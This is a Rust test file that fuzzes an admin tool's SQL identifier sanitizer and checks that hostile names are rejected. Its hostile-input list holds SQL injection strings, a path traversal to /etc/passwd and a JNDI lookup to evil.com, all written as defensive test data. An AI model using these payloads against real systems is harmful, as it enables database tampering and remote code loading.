//! Fuzz-style tests for identifier sanitization.
//!
//! Table and column names are interpolated into query text, so the
//! sanitizer is the only thing standing between configuration and SQL.
//! These tests throw hostile and random inputs at it.

use incubator_admin::db::sanitize_identifier;
use incubator_admin::models::FieldSpec;
use rand::Rng;
use rand::distributions::Alphanumeric;

/// Generate a random alphanumeric string of the given length.
fn random_alphanumeric(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Identifiers that must never reach query text.
fn hostile_identifiers() -> Vec<String> {
    [
        "",
        " ",
        "   ",
        "\n\r\t",
        "\0",
        "users; DROP TABLE x",
        "'OR 1=1--",
        "\"; SELECT *",
        "users--",
        "users/*comment*/",
        "na me",
        "name`",
        "col;",
        "semi;colon",
        "../../etc/passwd",
        "${jndi:ldap://evil.com/a}",
        "{{7*7}}",
        "1' UNION SELECT NULL--",
        "üöÄ",
        "таблица",
        "utilisateurs_é",
    ]
    .into_iter()
    .map(String::from)
    .collect()
}

#[test]
fn fuzz_hostile_identifiers_rejected() {
    for name in hostile_identifiers() {
        assert_eq!(
            sanitize_identifier(&name),
            None,
            "hostile identifier accepted: {:?}",
            name
        );
    }
}

#[test]
fn fuzz_random_alphanumeric_is_identity() {
    let mut rng = rand::thread_rng();
    for _ in 0..200 {
        let len = rng.gen_range(1..=64);
        let name = random_alphanumeric(len);
        assert_eq!(sanitize_identifier(&name), Some(name.as_str()));
    }
}

#[test]
fn fuzz_one_bad_byte_rejects_whole_name() {
    let mut rng = rand::thread_rng();
    for bad in [' ', ';', '\'', '"', '-', '.', '(', '\u{0}', 'é'] {
        for _ in 0..50 {
            let mut name = random_alphanumeric(rng.gen_range(1..=32));
            let pos = rng.gen_range(0..=name.len());
            // Keep the insertion on a char boundary (ASCII, so any index).
            name.insert(pos, bad);
            assert_eq!(
                sanitize_identifier(&name),
                None,
                "accepted {:?} containing {:?}",
                name,
                bad
            );
        }
    }
}

#[test]
fn fuzz_hostile_column_never_reaches_select_list() {
    for name in hostile_identifiers() {
        let field = FieldSpec::text("name", name.clone());
        assert_eq!(
            field.select_expr(),
            "NULL AS name",
            "column {:?} leaked into SQL",
            name
        );
    }
}
